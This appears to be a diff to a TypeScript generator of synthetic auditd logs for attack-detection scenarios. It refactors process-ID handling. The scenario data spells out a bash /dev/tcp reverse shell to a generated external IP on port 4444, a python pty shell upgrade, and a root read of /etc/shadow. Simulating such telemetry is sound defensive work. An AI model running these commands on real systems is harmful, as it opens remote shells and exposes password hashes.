@@ -160,19 +160,19 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       const ip = externalIp(rng);
-      // The web server (ppid) predates the attack; each process of the chain forks at its step.
-      const p: Proc = { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: 0, ppid: e.pid(), tty: '(none)', cwd: '/var/www/html', key: 'exec' };
-      const child = (argv: string[]) => (t: number): AuditdEvent => {
-        const proc = { ...p, pid: e.pid() };
-        p.ppid = proc.pid;
-        return execEvent(rng, e, t, node, proc, argv);
-      };
-      return [
-        child(['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`]),
-        child(['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]),
-        child(['bash', '-i']),
-        child(['python3', '-c', 'import pty; pty.spawn("/bin/bash")']),
+      // The web server predates the attack; each process of the chain forks at its step, the
+      // child of the one before.
+      const web = e.pid();
+      const chain = [
+        ['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`],
+        ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`],
+        ['bash', '-i'],
+        ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
       ];
+      const pids = chain.map(() => pidAtFirstUse(e.pid));
+      return chain.map((argv, k) => (t: number) =>
+        execEvent(rng, e, t, node, { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: pids[k]!(), ppid: k === 0 ? web : pids[k - 1]!(), tty: '(none)', cwd: '/var/www/html', key: 'exec' }, argv),
+      );
     },
   },
   {
@@ -184,13 +184,15 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       // cat forks when its exec is written; its login shell (ppid) predates the attack.
-      const p: Proc = { user: 'deploy', uid: 0, auid: 1008, ses: 77, pid: 0, ppid: e.pid(), tty: 'pts1', cwd: '/tmp', key: 'exec' };
+      const shell = e.pid();
+      const cat = pidAtFirstUse(e.pid);
+      const p: Omit<Proc, 'pid'> = { user: 'deploy', uid: 0, auid: 1008, ses: 77, ppid: shell, tty: 'pts1', cwd: '/tmp', key: 'exec' };
       return [
-        (t) => execEvent(rng, e, t, node, Object.assign(p, { pid: e.pid() }), ['cat', '/etc/shadow']),
+        (t) => execEvent(rng, e, t, node, { ...p, pid: cat() }, ['cat', '/etc/shadow']),
         (t) => ({
           t, node, serial: e.serial(node),
           records: [
-            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', p.pid, 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
+            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', cat(), 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
             rec('CWD', [['cwd', p.cwd, 'str']]),
             rec('PATH', [['item', 0, 'raw'], ['name', '/etc/shadow', 'str'], ['inode', 1_572_903, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100640', 'raw'], ['ouid', 0, 'raw'], ['ogid', 42, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
             { type: 'PROCTITLE', body: `proctitle=${auditProctitle(['cat', '/etc/shadow'])}`, fields: { proctitle: 'cat /etc/shadow' } },
